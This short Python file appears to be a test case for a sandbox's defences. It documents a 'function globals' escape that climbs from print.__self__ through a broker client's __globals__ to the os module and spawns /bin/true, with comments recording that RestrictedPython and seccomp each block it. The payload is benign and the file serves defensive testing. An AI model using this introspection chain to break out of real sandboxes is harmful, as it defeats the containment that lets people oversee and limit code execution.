# attack: function globals
# stops: restrictedpython: "__self__" is an invalid attribute name
# os: process/seccomp: Operation not permitted
# baseline: -restrictedpython => escaped
# print is a bound method: its __self__ holds the broker client, whose module imports os
client = print.__self__.client
os = client.call.__globals__["frames"].os
print("ESCAPED", os.posix_spawn("/bin/true", ["true"], {}))
